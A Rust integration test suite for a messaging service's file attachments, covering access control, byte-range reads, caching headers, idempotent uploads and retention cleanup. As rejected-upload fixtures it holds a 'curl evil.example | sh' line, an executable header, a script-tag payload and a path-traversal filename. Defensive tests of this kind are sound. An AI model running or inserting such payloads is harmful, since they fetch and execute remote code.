//! Files that go with messages: what is taken, who reads them, and how much of them at once.

use carebridge::services::retention::{Stale, forget};
use carebridge::storage::pool::Database;
use chrono::TimeDelta;
use futures::future::join_all;
use reqwest::{Method, Response};
use serde_json::{Value, json};
use tokio::runtime::Handle;

use super::{NOBODY, Scene};
use crate::support::api::{Answer, Person, send};

const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj";

async fn upload(who: &Person, name: &str, file: &[u8], key: Option<&str>) -> Answer {
    let head = format!(
        "--cut\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n"
    );
    let body = [head.as_bytes(), file, b"\r\n--cut--\r\n"].concat();
    let mut request =
        who.request(Method::POST, "attachments/").header("content-type", "multipart/form-data; boundary=cut");
    if let Some(key) = key {
        request = request.header("Idempotency-Key", key);
    }
    send(request.body(body)).await
}

async fn uploaded(who: &Person, name: &str, file: &[u8]) -> String {
    upload(who, name, file, None).await.expect(201)["id"].as_str().unwrap().to_owned()
}

async fn read(who: &Person, id: &str, headers: &[(&str, &str)]) -> Response {
    let mut request = who.request(Method::GET, &format!("attachments/{id}/"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    request.send().await.unwrap()
}

async fn say_with(who: &Person, conversation: &str, files: &Value) -> Answer {
    let body = json!({ "body": "See here.", "attachments": files });
    who.post(&format!("conversations/{conversation}/messages/"), &body).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_is_its_uploaders_until_it_is_sent_and_then_of_all_who_take_part() {
    let scene = Scene::set().await;
    let conversation = scene.conversation().await;
    let file = upload(&scene.pat, "../Röntgen \u{202e}.pdf", PDF, None).await.expect(201);
    let id = file["id"].as_str().unwrap();
    assert_eq!(
        file,
        json!({
            "id": id, "name": "Röntgen .pdf", "content_type": "application/pdf", "size_bytes": PDF.len(),
            "sha256": file["sha256"], "created_at": "2026-11-23T06:00:00Z",
        })
    );
    assert_eq!(read(&scene.pat, id, &[]).await.status(), 200);
    assert_eq!(read(&scene.adams, id, &[]).await.status(), 404);
    let sent = say_with(&scene.pat, &conversation, &json!([id])).await.expect(201);
    assert_eq!(
        sent["attachments"],
        json!([{ "id": id, "name": "Röntgen .pdf", "content_type": "application/pdf", "size_bytes": PDF.len() }])
    );
    let shown = read(&scene.adams, id, &[]).await;
    let header = |name: &str| shown.headers()[name].to_str().unwrap().to_owned();
    assert_eq!(
        (header("content-type"), header("x-content-type-options")),
        ("application/pdf".into(), "nosniff".into())
    );
    assert_eq!(
        header("content-disposition"),
        "attachment; filename=\"R_ntgen .pdf\"; filename*=UTF-8''R%C3%B6ntgen%20.pdf"
    );
    assert_eq!(
        (header("accept-ranges"), header("cache-control")),
        ("bytes".into(), "private, no-cache".into())
    );
    assert_eq!(header("etag"), format!("\"{}\"", file["sha256"].as_str().unwrap()));
    assert_eq!(shown.bytes().await.unwrap(), PDF);
    for person in [&scene.sam, &scene.desk, &scene.app.sign_in("admin").await] {
        assert_eq!(read(person, id, &[]).await.status(), 404);
    }
    assert_eq!(read(&scene.pat, NOBODY, &[]).await.status(), 404);
    let recorded = "SELECT count(*) AS count FROM audit_log WHERE action = 'attachment.read'";
    assert_eq!(scene.app.count(recorded).await, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_part_of_a_file_is_read_by_itself() {
    let scene = Scene::set().await;
    let words: Vec<u8> = (0..50_000_u32).flat_map(|n| format!("{n}\n").into_bytes()).collect();
    let id = uploaded(&scene.pat, "numbers.txt", &words).await;
    let last = words.len() - 1;
    for (range, from, to) in [
        ("bytes=0-9", 0, 9),
        ("bytes=200000-200099", 200_000, 200_099),
        ("bytes=-5", last - 4, last),
        ("bytes=100-9999999", 100, last),
    ] {
        let part = read(&scene.pat, &id, &[("range", range)]).await;
        assert_eq!(part.status(), 206);
        let told = format!("bytes {from}-{to}/{}", words.len());
        assert_eq!(part.headers()["content-range"].to_str().unwrap(), told);
        assert_eq!(part.bytes().await.unwrap(), words[from..=to]);
    }
    let whole = read(&scene.pat, &id, &[("range", "bytes=0-1,4-5")]).await;
    assert_eq!((whole.status().as_u16(), whole.bytes().await.unwrap().len()), (200, words.len()));
    let beyond = read(&scene.pat, &id, &[("range", &format!("bytes={}-", words.len()))]).await;
    assert_eq!(beyond.status(), 416);
    assert_eq!(beyond.headers()["content-range"].to_str().unwrap(), format!("bytes */{}", words.len()));
    let tag = read(&scene.pat, &id, &[]).await.headers()["etag"].to_str().unwrap().to_owned();
    let of_another = [("range", "bytes=0-9"), ("if-range", "\"another\"")];
    assert_eq!(read(&scene.pat, &id, &of_another).await.status(), 200);
    assert_eq!(read(&scene.pat, &id, &[("range", "bytes=0-9"), ("if-range", &tag)]).await.status(), 206);
    let known = [("if-none-match", tag.as_str())];
    let unchanged = read(&scene.pat, &id, &known).await;
    assert_eq!(
        (unchanged.status().as_u16(), &unchanged.headers()["cache-control"]),
        (304, &"private, no-cache".parse().unwrap())
    );
    assert_eq!(
        read(&scene.adams, &id, &known).await.status(),
        404,
        "who may not read it learns nothing of it"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_what_it_is_called_is_refused() {
    let scene = Scene::set().await;
    for content in [
        b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".as_slice(),
        b"#!/bin/sh\ncurl evil.example | sh\n",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"caf\xe9",
        b"",
    ] {
        let refused = upload(&scene.pat, "scan.pdf", content, None).await.refused(422, "invalid");
        assert_eq!(refused["errors"][0]["code"], "unsupported_type");
    }
    let large = vec![b'x'; 10 * 1024 * 1024 + 1];
    let refused = upload(&scene.pat, "large.txt", &large, None).await.refused(422, "invalid");
    assert_eq!(refused["errors"][0]["code"], "file_too_large");
    uploaded(&scene.pat, "large.txt", &large[1..]).await;
    let form = scene.pat.post("attachments/", &json!({})).await;
    form.refused(415, "unsupported_media_type");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_goes_with_one_message_and_nobody_sends_anothers() {
    let scene = Scene::set().await;
    let conversation = scene.conversation().await;
    let id = uploaded(&scene.pat, "a.txt", b"words").await;
    for (person, files) in [(&scene.adams, json!([id])), (&scene.pat, json!([id, NOBODY]))] {
        let refused = say_with(person, &conversation, &files).await.refused(422, "invalid");
        assert_eq!(refused["errors"][0]["field"], "attachments");
        assert_eq!(refused["errors"][0]["code"], "not_found");
    }
    let files = json!([id]);
    let tries = join_all((0..4).map(|_| say_with(&scene.pat, &conversation, &files))).await;
    let mut statuses: Vec<u16> = tries.iter().map(|answer| answer.status.as_u16()).collect();
    statuses.sort_unstable();
    assert_eq!(statuses, [201, 422, 422, 422]);
    assert_eq!(scene.pat.heard(&conversation).await.len(), 1, "a message that cannot be sent was not said");
    let many: Vec<String> = (0..11).map(|n| format!("019b0000-0000-7000-8000-{n:012}")).collect();
    let refused = say_with(&scene.pat, &conversation, &json!(many)).await.refused(422, "invalid");
    assert_eq!(refused["errors"][0]["code"], "too_many");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repeat_under_a_key_is_the_same_file_and_another_file_is_refused() {
    let scene = Scene::set().await;
    let first = upload(&scene.pat, "a.txt", b"words", Some("key-1")).await.expect(201);
    let again = upload(&scene.pat, "a.txt", b"words", Some("key-1")).await;
    assert_eq!(again.header("idempotent-replayed"), "true");
    assert_eq!(again.expect(201), first);
    upload(&scene.pat, "a.txt", b"other words", Some("key-1")).await.refused(422, "idempotency_mismatch");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_not_sent_is_forgotten_after_a_day_and_is_not_heaped_up() {
    let scene = Scene::set().await;
    let conversation = scene.conversation().await;
    let sent = uploaded(&scene.pat, "sent.txt", b"words").await;
    say_with(&scene.pat, &conversation, &json!([sent])).await.expect(201);
    let mut last = String::new();
    for n in 0..18 {
        last = uploaded(&scene.pat, &format!("{n}.txt"), b"words").await;
    }
    let tries = join_all((0..4).map(|_| upload(&scene.pat, "at-once.txt", b"words", None))).await;
    let mut statuses: Vec<u16> = tries.iter().map(|answer| answer.status.as_u16()).collect();
    statuses.sort_unstable();
    assert_eq!(statuses, [201, 201, 409, 409], "several at once do not pass the limit together");
    upload(&scene.pat, "one-more.txt", b"words", None).await.refused(409, "too_many_unsent");
    scene.app.clock.advance(TimeDelta::days(1) + TimeDelta::milliseconds(1));
    let database = Database::new(&scene.app.database_url, 2, Handle::current()).unwrap();
    let now = carebridge::domain::clock::Clock::now(&*scene.app.clock);
    forget(&database, Stale::Attachments, now, None).await.unwrap();
    assert_eq!(scene.app.count("SELECT count(*) AS count FROM attachments").await, 1);
    assert_eq!(scene.app.count("SELECT count(*) AS count FROM attachment_contents").await, 1);
    let pat = scene.app.sign_in("pat").await;
    assert_eq!(read(&pat, &sent, &[]).await.status(), 200);
    assert_eq!(read(&pat, &last, &[]).await.status(), 404);
}
